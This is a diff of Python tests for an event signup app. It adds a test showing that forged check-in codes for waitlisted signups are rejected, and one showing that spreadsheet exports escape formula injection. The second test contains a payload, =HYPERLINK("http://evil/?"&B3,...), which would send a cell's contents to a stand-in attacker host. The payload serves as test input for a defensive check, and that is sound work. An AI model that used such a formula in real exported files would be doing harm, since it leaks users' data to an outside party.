@@ -86,7 +86,7 @@ def test_waitlisted_and_cancelled_signups_cannot_check_in(app, client, officer, 
     assert sign_up(client, event_id, second)["checkin_code"] is None
     waiting = next(s for s in signups_of(app, event_id) if s.status is SignupStatus.WAITLISTED)
     with app.app_context():       # a validly signed code for the waitlisted signup, as if minted by us
-        signed = URLSafeSerializer("test-secret-key", salt=checkin.SALT).dumps(
+        signed = URLSafeSerializer(app.config["SU"].app.secret_key, salt=checkin.SALT).dumps(
             [event_id, waiting.id, waiting.sequence])
     assert error_code(scan(client, officer, event_id, signed)) == "checkin_not_confirmed"
     client.post(f"/api/v1/events/{event_id}/cancel", headers=bearer(first))
@@ -151,3 +151,13 @@ def test_signup_list_and_xlsx_export_cell_by_cell(app, client, officer, make_sta
     assert wang_row[7].startswith(today[:4]) and len(wang_row[7]) == 16          # local "YYYY-MM-DD HH:MM"
     assert wang_row[8] and len(wang_row[8]) == 16 and rows[2][8] is None
     assert str(sheet["B2"].value) == "00123"                                      # 工号 keeps its leading zeros
+
+
+def test_typed_answers_never_become_formulas_in_the_export(app, client, officer, make_staff, token_for):
+    questions = [{"key": "team", "label": "参赛队伍", "kind": "text"}]
+    event_id = create_event(client, officer, capacity=5, questions=questions, title="读书节")
+    sign_up(client, event_id, token_for(make_staff()), {"team": '=HYPERLINK("http://evil/?"&B3,"点击")'})
+    resp = client.get(f"/api/v1/officer/events/{event_id}/signups.xlsx", headers=bearer(officer))
+    cell = load_workbook(io.BytesIO(resp.data)).active.cell(row=2, column=len(questions) + 10)
+    assert cell.data_type == "s"
+    assert cell.value == '\'=HYPERLINK("http://evil/?"&B3,"点击")'
